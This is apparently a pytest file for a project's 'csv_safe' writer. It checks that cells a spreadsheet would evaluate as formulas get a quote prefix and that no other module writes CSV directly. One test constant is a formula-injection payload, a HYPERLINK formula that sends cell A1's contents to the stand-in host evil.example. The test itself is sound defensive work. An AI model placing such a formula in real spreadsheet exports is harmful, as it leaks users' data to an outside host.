"""The one CSV writer: formula cells defused, and no other module writing CSV past it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from arena import csv_safe

SOURCE = Path(__file__).resolve().parent.parent / "src" / "arena"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "- a list item"])
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(cell: str) -> None:
    out = io.StringIO()
    csv_safe.Writer(out).writerow([cell, 1])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{cell}", "1"]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    out = io.StringIO()
    writer = csv_safe.DictWriter(out, ["a", "b", "c", "d"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": -1.5, "b": "plain", "c": None, "ignored": "=x"})

    assert out.getvalue() == "a,b,c,d\n-1.5,plain,,\n"


def test_no_module_but_csv_safe_writes_csv() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if path.name != "csv_safe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "write CSV through arena.csv_safe, which defuses formula cells"
